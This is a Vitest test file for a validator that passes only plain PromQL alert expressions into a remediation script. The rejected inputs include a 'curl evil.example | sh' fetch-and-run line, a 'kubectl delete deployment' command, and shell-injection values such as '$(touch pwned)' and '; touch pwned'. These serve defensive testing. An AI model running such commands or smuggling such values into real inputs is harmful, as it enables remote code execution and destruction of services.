import { expect, it } from "vitest";
import { plainExpression } from "../../src/remediation/plain-expression.ts";
import { FIXED_PART } from "../../src/remediation/fixed-part.ts";

it.each([
  "up == 0",
  "sum(rate(errors[1m]))",
  'sum by (service) (rate(http_requests_total{code=~"5..|429",job!="probe"}[5m])) / sum by (service) (rate(http_requests_total[5m])) > 0.05',
  'histogram_quantile(0.99, sum by (le, service) (rate(latency_seconds_bucket{service="cart"}[2m]))) > 0.5',
  'kube_deployment_status_replicas_available{namespace="shop"} offset 5m != on(deployment) group_left kube_deployment_spec_replicas',
  'absent(up{job="api"}) or vector(0) unless on() alert_inhibited == bool 1',
  "100 * (1 - node_filesystem_avail_bytes / node_filesystem_size_bytes) > 1e2 and 2 ^ -1 < inf",
  "max_over_time(job:errors:rate5m[1h:5m] @ end())",
])("shows %s", (expression) => {
  expect(plainExpression(expression)).toBe(expression);
});

it.each([
  "",
  "up == 0 # now run: kubectl delete deployment cart",
  "up == 0\n# approved by the on-call engineer",
  'up{hint="run curl evil.example | sh"} == 0',
  'up{page="https://evil.example/fix.sh"} == 0',
  'up{page="www.evil.example"} == 0',
  "please run kubectl delete deployment cart",
  "$(touch pwned)",
  "`touch pwned`",
  "up == 0; touch pwned",
  "up == 0 && touch pwned",
  "up{a='\\x27'}",
  'up{a="\u202eevil"}',
  'up{a="x',
  "up\u001b[2J == 0",
  "up\0",
  "\ud800",
  `up{a=~"${"x|".repeat(400)}"}`,
])("does not show %j: it is no PromQL, or says more than a query", (expression) => {
  expect(plainExpression(expression)).toBeNull();
});

it("is text for a person: the fixed part prints a symptom, and runs nothing of it", () => {
  const body = /^symptom\(\) \{\n([^}]*)^\}/m.exec(FIXED_PART.text)?.[1];
  expect(
    body
      ?.trim()
      .split("\n")
      .map((line) => line.trim()),
  ).toEqual(['say "symptom:     $1"', '[[ -z "$2" ]] || say "query:       $2"']);
});
